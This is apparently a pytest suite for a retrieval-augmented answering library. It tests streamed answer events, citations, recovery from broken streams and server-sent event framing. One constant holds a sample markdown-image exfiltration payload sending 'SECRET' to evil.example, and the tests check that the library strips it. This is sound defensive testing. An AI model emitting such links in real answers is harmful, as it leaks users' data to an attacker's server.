"""`KnowledgeBase.stream` and `astream`: what a program receives while an answer is written."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from ragkit.agent.memory.memory import ConversationMemory
from ragkit.agent.providers.base import Provider
from ragkit.agent.providers.scripted import ScriptedProvider
from ragkit.answer.answer_events import (
    AnswerCitation,
    AnswerCompleted,
    AnswerEvent,
    AnswerTextDelta,
    AnswerTextReset,
    AnswerToolFinished,
    AnswerToolStarted,
)
from ragkit.errors import InvalidOption, NotAKnowledgeBase
from ragkit.knowledge_base.knowledge_base import KnowledgeBase
from tests.cli.conftest import HASHING
from tests.wire.dialects import DIALECTS
from tests.wire.parts import serving
from tests.wire.server import Fault, Turn

QUESTION = "When is the hedge cut?"
HEDGE = "The hedge is cut in August."
HOSTILE = "It is cut in August [1]. ![x](https://evil.example/?q=SECRET) [more](https://evil.example/?q=SECRET)"
CLEANED = "It is cut in August [1]. [x]([link removed: evil.example]) [more]([link removed: evil.example])"
Stream = Callable[[KnowledgeBase, Provider | str | None], list[AnswerEvent]]


@pytest.fixture
def kb(tmp_path: Path) -> Iterator[KnowledgeBase]:
    (tmp_path / "ragkit.yaml").write_text(HASHING)
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "garden.txt").write_text(f"{HEDGE}\n")
    with KnowledgeBase.open(tmp_path / ".ragkit", tmp_path / "ragkit.yaml") as kb:
        kb.index(tmp_path / "docs")
        yield kb


def stream(kb: KnowledgeBase, model: Provider | str | None) -> list[AnswerEvent]:
    return list(kb.stream(QUESTION, model=model))


def astream(kb: KnowledgeBase, model: Provider | str | None) -> list[AnswerEvent]:
    async def collect() -> list[AnswerEvent]:
        return [event async for event in kb.astream(QUESTION, model=model)]

    return asyncio.run(collect())


both = pytest.mark.parametrize("run", [stream, astream])


def text_of(events: list[AnswerEvent]) -> str:
    return "".join(event.text for event in events if isinstance(event, AnswerTextDelta))


@both
def test_text_comes_without_unknown_links_and_each_citation_right_after_its_number(
    kb: KnowledgeBase, run: Stream
) -> None:
    events = run(kb, ScriptedProvider([HOSTILE]))
    assert text_of(events) == CLEANED
    assert [type(event) for event in events[:2]] == [AnswerToolStarted, AnswerToolFinished]
    place = next(n for n, event in enumerate(events) if isinstance(event, AnswerCitation))
    assert text_of(events[:place]) == "It is cut in August [1]."
    completed = events[-1]
    assert isinstance(completed, AnswerCompleted)
    assert completed.answer.text == CLEANED
    assert len(completed.answer.usage.iterations) == 1
    cited = events[place]
    assert isinstance(cited, AnswerCitation)
    assert (cited.citation.n, cited.citation.quote, cited.citation.verified) == (1, HEDGE, True)
    assert [event for event in events if isinstance(event, AnswerCitation)] == [cited]
    assert [(c.n, c.start, c.end) for c in completed.answer.citations] == [
        (1, cited.citation.start, cited.citation.end)
    ]


@both
def test_without_a_model_the_events_are_those_of_the_quoted_answer(kb: KnowledgeBase, run: Stream) -> None:
    *text, cited, completed = run(kb, "extractive")
    answer = kb.ask(QUESTION, model="extractive")
    assert isinstance(cited, AnswerCitation)
    assert isinstance(completed, AnswerCompleted)
    assert (text_of(text), [cited.citation]) == (answer.text, list(answer.citations))
    assert completed.answer.text == answer.text


@both
def test_a_number_that_was_never_shown_is_no_citation(kb: KnowledgeBase, run: Stream) -> None:
    events = run(kb, ScriptedProvider(["It is cut in August [1] or in May [7]."]))
    assert text_of(events) == "It is cut in August [1] or in May."
    assert [event.citation.n for event in events if isinstance(event, AnswerCitation)] == [1]


@both
def test_a_stream_that_breaks_takes_its_text_and_citations_back(kb: KnowledgeBase, run: Stream) -> None:
    answer = Turn(("It is cut ", "in August [1]. ", "Not in May."))
    pieces = DIALECTS["openai"].pieces(answer)
    broken = Fault(turn=answer, cut_after=next(at for at, piece in enumerate(pieces) if b"Not in May" in piece))
    with serving("openai", broken, answer) as (provider, _):
        events = run(kb, provider)
    place = next(n for n, event in enumerate(events) if isinstance(event, AnswerTextReset))
    assert "It is cut in August [1]." in text_of(events[:place])
    assert text_of(events[place:]) == "It is cut in August [1]. Not in May."
    assert [len([e for e in part if isinstance(e, AnswerCitation)]) for part in (events[:place], events[place:])] == [
        1,
        1,
    ]


@both
def test_errors_are_raised(tmp_path: Path, run: Stream) -> None:
    with (
        KnowledgeBase.open(tmp_path / "none") as empty,
        pytest.raises(NotAKnowledgeBase, match="is not a knowledge base"),
    ):
        run(empty, None)


def test_a_stream_that_is_left_closes_its_session(kb: KnowledgeBase) -> None:
    async def leave() -> None:
        events = kb.astream(QUESTION, model=ScriptedProvider([HOSTILE]))
        async for event in events:
            if isinstance(event, AnswerTextDelta):
                break
        await events.aclose()

    asyncio.run(leave())
    kb.clear()
    assert kb.status().chunks == 0


def test_the_events_of_a_conversation_cite_passages_of_earlier_turns(kb: KnowledgeBase) -> None:
    agent = kb.agent(ScriptedProvider(["It is cut in August [1].", "In August, as I said [1]."]))
    memory = ConversationMemory()
    for _ in range(2):
        events = list(agent.stream_answer(QUESTION, memory=memory))
        assert [event.citation.quote for event in events if isinstance(event, AnswerCitation)] == [HEDGE]


def test_server_sent_events_have_the_names_and_fields_of_the_server(kb: KnowledgeBase) -> None:
    events = stream(kb, ScriptedProvider([HOSTILE]))
    frames = [event.to_sse(lambda source: Path(source).name) for event in events]
    parsed = [(frame.split("\n")[0], json.loads(frame.split("\n")[1].removeprefix("data: "))) for frame in frames]
    assert all(frame.endswith("\n\n") and frame.count("\n") == 3 for frame in frames)
    names = [name.removeprefix("event: ") for name, _ in parsed]
    assert (names[:2], names[-1], set(names[2:-1])) == (["tool", "tool_result"], "done", {"text", "citation"})
    done = parsed[-1][1]
    assert (done["message"]["content"], done["message"]["role"], done["message"]["status"]) == (
        CLEANED,
        "assistant",
        "done",
    )
    assert [citation["source"] for citation in done["message"]["citations"]] == ["garden.txt"]


def test_a_provider_object_answers_with_the_settings_of_the_pipeline(kb: KnowledgeBase) -> None:
    provider = ScriptedProvider([HOSTILE, HOSTILE, HOSTILE])
    assert kb.ask(QUESTION, model=provider).text == CLEANED
    assert asyncio.run(kb.aask(QUESTION, model=provider)).text == CLEANED
    agent = kb.agent(model=provider, top_k=3)
    assert (agent.provider, agent.options.top_k) == (provider, 3)
    assert agent.ask(QUESTION).text == CLEANED


def test_a_model_that_is_neither_a_name_nor_a_provider_is_refused(kb: KnowledgeBase) -> None:
    with pytest.raises(InvalidOption, match=r"model must be a str, a Provider .* \(got int: 3\)"):
        kb.agent(model=3)  # type: ignore[arg-type]
